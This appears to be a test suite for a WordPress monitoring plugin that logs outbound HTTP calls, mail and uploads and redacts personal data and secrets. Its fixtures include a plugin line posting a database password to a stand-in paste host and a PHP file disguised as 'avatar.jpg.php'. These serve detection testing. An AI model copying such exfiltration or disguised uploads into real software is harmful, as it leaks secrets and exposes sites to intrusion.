import { GUEST, PEOPLE } from '../test-site/people.ts';
import type { ExpectedPerson, Stage, UserAct } from '../test-site/user-act.ts';

const ABSENT = (value: unknown): boolean => value === undefined;

function contact(identifier: string): ExpectedPerson {
  return { type: 'contact', kind: 'email', identifier };
}

/** A plugin that does what the query says. */
const CALLER = `<?php
/** Plugin Name: Caller */
add_action('init', function () {
    $done = ['telemetry' => fn() => wp_remote_post('https://stats.example/collect', ['body' => ['site' => 'shop', 'admin' => '${PEOPLE.editor.email}']]),
        'json' => fn() => wp_remote_post('https://crm.example/v2/contacts', ['headers' => ['Content-Type' => 'application/json'], 'body' => json_encode(['contacts' => [['email' => '${GUEST.email}', 'first_name' => 'Leopoldine', 'phone' => '${GUEST.phone}'], ['email' => '${PEOPLE.third.email}']]])]),
        'query' => fn() => wp_remote_get('https://pixel.example/i.gif?e=${encodeURIComponent(PEOPLE.second.email)}&v=2'),
        'path' => fn() => wp_remote_get('https://crm.example/v2/contacts/${encodeURIComponent(GUEST.email)}?api_key=Zr8vQ2nL5xKc7TbW1yHd9JfM3sGpA6uE'),
        'packed' => fn() => wp_remote_get('https://pixel.example/i.gif?p=' . str_repeat('aGVsbG8gd29ybGQg', 15)),
        'chatty' => fn() => array_map(fn($i) => wp_remote_get('https://chatty.example/ping?n=' . $i), range(10, 19)),
        'crowd' => fn() => array_map(fn($mail) => wp_remote_post('https://chatty.example/add', ['body' => ['email' => $mail]]), ['${PEOPLE.customer.email}', '${PEOPLE.second.email}', '${PEOPLE.third.email}']),
        'waitless' => fn() => wp_remote_post('https://queue.example/push', ['blocking' => false, 'body' => 'x=1']),
        'broken' => fn() => wp_remote_get('https://broken.example/'),
        'download' => fn() => wp_remote_get('https://files.example/list.csv', ['stream' => true, 'filename' => get_temp_dir() . wp_generate_password(12, false) . '.csv']),
        'loopback' => fn() => wp_remote_get(home_url('/robots.txt')),
        'answered' => function () { add_filter('pre_http_request', fn() => ['headers' => [], 'body' => '', 'response' => ['code' => 200, 'message' => 'OK'], 'cookies' => []]); wp_remote_get('https://cached.example/'); },
        'update' => fn() => wp_remote_get('https://api.wordpress.org/core/version-check/1.7/?version=6.1.9'),
        'sms' => fn() => wp_remote_post('https://api.twilio.com/2010-04-01/Accounts/AC1/Messages.json', ['body' => ['To' => '${PEOPLE.customer.phone}', 'Body' => 'Your table is ready']]),
        'secret' => fn() => wp_remote_post('https://paste.example/new', ['body' => "DB_PASSWORD=tr0ub4dor-harbour\\n"]),
        'redirect' => fn() => wp_remote_get('https://short.example/x'),
        'mail' => fn() => wp_mail('${GUEST.email}', 'Your visit', "Hello, this is about ${PEOPLE.fourth.email}. Your MRN 00987654.", ['Cc: ${PEOPLE.customer.email}'], [WPINC_FILE]),
        'broken-mail' => fn() => wp_mail('no address', 'x', 'y'),
        'own-mailer' => function () { add_filter('pre_wp_mail', '__return_true'); wp_mail('${PEOPLE.subscriber.email}', 'x', 'y'); },
    ];
    defined('WPINC_FILE') || define('WPINC_FILE', ABSPATH . 'wp-includes/images/media/default.png');
    if (isset($_GET['call'])) { $done[$_GET['call']](); echo 'done'; exit; }
});
`;

async function withCaller({ site, internet }: Stage): Promise<void> {
  internet.plays('files.example', () => ({ headers: { 'content-type': 'text/csv' }, body: 'a;b\n1;2\n' }));
  internet.plays('broken.example', () => ({ status: 503 }));
  internet.plays('short.example', () => ({ status: 302, headers: { location: 'https://far.example/y' } }));
  await site.php(`is_dir(WP_PLUGIN_DIR . '/caller') || mkdir(WP_PLUGIN_DIR . '/caller'); file_put_contents(WP_PLUGIN_DIR . '/caller/caller.php', base64_decode('${Buffer.from(CALLER).toString('base64')}')); wp_cache_flush(); require_once ABSPATH . 'wp-admin/includes/plugin.php'; activate_plugin('caller/caller.php');`);
}

function calls(name: string): Pick<UserAct, 'prepare' | 'act'> {
  return {
    prepare: withCaller,
    act: async ({ site }) => {
      const answer = await site.browser().get(`/?call=${name}`);
      if (!answer.text.endsWith('done')) throw new Error(`the call was not made: ${answer.status} ${answer.text.slice(0, 300)}`);
    },
  };
}

async function settings({ site }: Stage, values: string): Promise<void> {
  await site.php(`update_site_option('tourniquet_settings', ${values});`);
}

export const ACTS: readonly UserAct[] = [
  {
    title: 'telemetry with a person\'s address is told with host, plugin, classes and the person',
    on: ['single', 'network'],
    ...calls('telemetry'),
    expect: [{
      category: 'outbound', action: 'http-request', times: 1, persons: [contact(PEOPLE.editor.email)], personCount: 1,
      fields: { 'destination.domain': 'stats.example', 'destination.port': 443, 'wordpress.plugin.slug': 'caller', 'wordpress.outbound.known': false, 'wordpress.outbound.purpose': ABSENT, 'wordpress.data.classes': ['pii.email'], 'wordpress.request.subjects': 1, 'http.request.method': 'POST', 'http.response.status_code': 200, 'http.request.body.bytes': (v) => Number(v) > 20 },
    }],
  },
  {
    title: 'contacts sent as JSON are told by their tokens and classes',
    ...calls('json'),
    expect: [{ category: 'outbound', action: 'http-request', persons: [contact(GUEST.email), contact(PEOPLE.third.email)], personCount: 2, fields: { 'destination.domain': 'crm.example', 'wordpress.data.classes': ['pii.email', 'pii.name', 'pii.phone'] } }],
  },
  {
    title: 'a person in a query string is told with the field, and the query is not',
    ...calls('query'),
    expect: [{ category: 'outbound', action: 'http-request', persons: [contact(PEOPLE.second.email)], fields: { 'destination.domain': 'pixel.example', 'wordpress.data.fields': ['url.query'], 'url.query': ABSENT, 'wordpress.outbound.query_bytes': (v) => Number(v) > 20, 'wordpress.outbound.query_token': (v) => /^[a-p]{24}$/.test(String(v)), 'wordpress.outbound.query_packed': ABSENT } }],
  },
  {
    title: 'a person in a path is told with the field, and the service\'s own key is nobody\'s leak',
    forbidden: ['Zr8vQ2nL5xKc7TbW1yHd9JfM3sGpA6uE'],
    ...calls('path'),
    expect: [{ category: 'outbound', action: 'http-request', persons: [contact(GUEST.email)], personCount: 1, fields: { 'destination.domain': 'crm.example', 'wordpress.data.fields': ['url.path'], 'wordpress.data.classes': ['pii.email'] } }],
  },
  {
    title: 'ten like calls of one request are one event with their number',
    ...calls('chatty'),
    expect: [{ category: 'outbound', action: 'http-request', times: 1, fields: { 'destination.domain': 'chatty.example', 'wordpress.outbound.calls': 10, 'wordpress.outbound.queries': 10 } }],
  },
  {
    title: 'a long run of base64 in a query is told, and is not shown',
    forbidden: ['aGVsbG8gd29ybGQg'],
    ...calls('packed'),
    expect: [{ category: 'outbound', action: 'http-request', times: 1, fields: { 'destination.domain': 'pixel.example', 'wordpress.outbound.query_packed': true, 'url.query': ABSENT } }],
  },
  {
    title: 'persons of like calls are all named',
    ...calls('crowd'),
    expect: [{ category: 'outbound', action: 'http-request', times: 1, personCount: 3, persons: [contact(PEOPLE.customer.email), contact(PEOPLE.third.email)], fields: { 'wordpress.outbound.calls': 3, 'wordpress.request.subjects': 3 } }],
  },
  {
    title: 'a call nobody waits for is told',
    ...calls('waitless'),
    expect: [{ category: 'outbound', action: 'http-request', times: 1, fields: { 'destination.domain': 'queue.example', 'wordpress.data.classes': ABSENT } }],
  },
  {
    title: 'a call that fails is told as one',
    ...calls('broken'),
    expect: [{ category: 'outbound', action: 'http-request', fields: { 'destination.domain': 'broken.example', 'event.outcome': 'failure', 'http.response.status_code': 503 } }],
  },
  {
    title: 'a download into a file is told with its size',
    ...calls('download'),
    expect: [{ category: 'outbound', action: 'http-request', fields: { 'destination.domain': 'files.example', 'http.response.body.bytes': 8 } }],
  },
  {
    title: 'both hosts of a redirected call are told',
    ...calls('redirect'),
    expect: [
      { category: 'outbound', action: 'http-request', fields: { 'destination.domain': 'short.example' } },
      { category: 'outbound', action: 'http-request', fields: { 'destination.domain': 'far.example', 'event.reason': 'redirected' } },
    ],
  },
  { title: 'a call of the site to itself is not told', ...calls('loopback'), silent: [{ category: 'outbound', action: '*' }] },
  { title: 'a call that somebody answered in its place is not told', ...calls('answered'), silent: [{ category: 'outbound', action: '*' }] },
  {
    title: 'a look for updates is told with its purpose',
    ...calls('update'),
    expect: [{ category: 'outbound', action: 'http-request', fields: { 'destination.domain': 'api.wordpress.org', 'wordpress.outbound.purpose': 'update' } }],
  },
  {
    title: 'a text message is told as one, with its receiver',
    ...calls('sms'),
    expect: [{ category: 'outbound', action: 'sms-sent', persons: [{ type: 'contact', kind: 'phone', identifier: PEOPLE.customer.phone }], fields: { 'destination.domain': 'api.twilio.com' } }],
  },
  {
    title: 'a password that leaves is told by its class',
    forbidden: ['tr0ub4dor-harbour'],
    ...calls('secret'),
    expect: [{ category: 'outbound', action: 'http-request', fields: { 'destination.domain': 'paste.example', 'wordpress.data.classes': ['secret.password'] } }],
  },
  {
    title: 'a declared host has its purpose and region',
    ...calls('telemetry'),
    prepare: async (stage) => {
      await withCaller(stage);
      await settings(stage, "['outbound_purposes' => ['stats.example' => 'analytics'], 'region' => ['crm.example']]");
    },
    expect: [{ category: 'outbound', action: 'http-request', fields: { 'wordpress.outbound.purpose': 'analytics', 'wordpress.outbound.region': 'outside' } }],
    restore: (stage) => settings(stage, '[]'),
  },
  {
    title: 'a mail is told with its receivers, whom it is about, classes and attachments',
    forbidden: ['00987654'],
    ...calls('mail'),
    expect: [{
      category: 'email', action: 'mail-sent', times: 1, persons: [contact(GUEST.email), { type: 'user', kind: 'email', identifier: PEOPLE.customer.email }, contact(PEOPLE.fourth.email)],
      fields: { 'event.outcome': 'success', 'wordpress.plugin.slug': 'caller', 'wordpress.mail.recipients': 2, 'wordpress.mail.attachments': 1, 'wordpress.mail.attachment_kinds': ['png'], 'wordpress.mail.foreign_subjects': 1, 'wordpress.data.classes': ['phi.mrn', 'pii.email'] },
    }],
  },
  { title: 'a mail that cannot be sent is told as failed', ...calls('broken-mail'), expect: [{ category: 'email', action: 'mail-sent', fields: { 'event.outcome': 'failure' } }] },
  { title: 'a mail that another plugin sends is told', ...calls('own-mailer'), expect: [{ category: 'email', action: 'mail-sent', persons: [{ type: 'user', kind: 'email', identifier: PEOPLE.subscriber.email }], fields: { 'event.outcome': 'success' } }] },
  {
    title: 'a reset password\'s mail is told with its template',
    act: async ({ site }) => site.browser().post('/wp-login.php?action=lostpassword', { user_login: PEOPLE.subscriber.login }),
    expect: [{ category: 'email', action: 'mail-sent', persons: [{ type: 'user', kind: 'email', identifier: PEOPLE.subscriber.email }], fields: { 'wordpress.mail.template': 'password-reset' } }],
  },
  {
    title: 'an uploaded picture is told by kind and size, without its name',
    prepare: (stage) => stage.as(PEOPLE.author),
    act: async (stage) => (await stage.as(PEOPLE.author)).upload('marshgrove-at-the-sea.gif', 'image/gif', Buffer.from('R0lGODlhAQABAAAAACwAAAAAAQABAAACAkQBADs=', 'base64')),
    expect: [{ category: 'file', action: 'file-uploaded', fields: { 'file.extension': 'gif', 'file.name': ABSENT, 'file.size': 29, 'wordpress.upload.public': true, 'wordpress.upload.sample': ABSENT } }],
  },
  {
    title: 'a list of persons that is uploaded is told by its classes',
    prepare: (stage) => stage.as(PEOPLE.administrator),
    act: async (stage) => (await stage.as(PEOPLE.administrator)).upload('list.csv', 'text/csv', `email;phone\n${GUEST.email};${GUEST.phone}\n${PEOPLE.fourth.email};\n`),
    expect: [{ category: 'file', action: 'file-uploaded', persons: [contact(GUEST.email), contact(PEOPLE.fourth.email)], fields: { 'file.extension': 'csv', 'wordpress.data.classes': /pii\.email/, 'wordpress.upload.sample': ABSENT } }],
  },
  {
    title: 'code that a plugin takes in is told with its name and beginning',
    act: ({ site }) => site.php("require_once ABSPATH . 'wp-admin/includes/file.php'; $file = wp_tempnam(); file_put_contents($file, '<?php echo 1;'); $given = ['name' => 'avatar.jpg.php', 'tmp_name' => $file, 'size' => 13, 'type' => 'image/jpeg', 'error' => 0]; wp_handle_sideload($given, ['test_form' => false, 'test_type' => false]);"),
    expect: [{ category: 'file', action: 'file-uploaded', fields: { 'file.name': /^avatar\.jpg.*\.php$/, 'file.extension': 'php', 'wordpress.upload.code': true, 'wordpress.upload.sample': '<?php echo 1;', 'wordpress.upload.sideload': true } }],
  },
  {
    title: 'plugins whose code calls past WordPress are found',
    prepare: ({ site }) => site.php("is_dir(WP_PLUGIN_DIR . '/past') || mkdir(WP_PLUGIN_DIR . '/past'); file_put_contents(WP_PLUGIN_DIR . '/past/past.php', \"<?php\\n/** Plugin Name: Past */\\nfunction past() { return curl_exec(curl_init('https://past.example/')); }\\n\");"),
    act: async ({ site }) => {
      const found = String(await site.php('Tourniquet\\Outbound\\DirectCallers::scan(); echo wp_json_encode(Tourniquet\\Outbound\\DirectCallers::all());'));
      if (!found.includes('"past":["curl_exec"]') || found.includes('"tourniquet"')) throw new Error(`found: ${found}`);
    },
    restore: ({ site }) => site.php("unlink(WP_PLUGIN_DIR . '/past/past.php'); rmdir(WP_PLUGIN_DIR . '/past');"),
  },
];
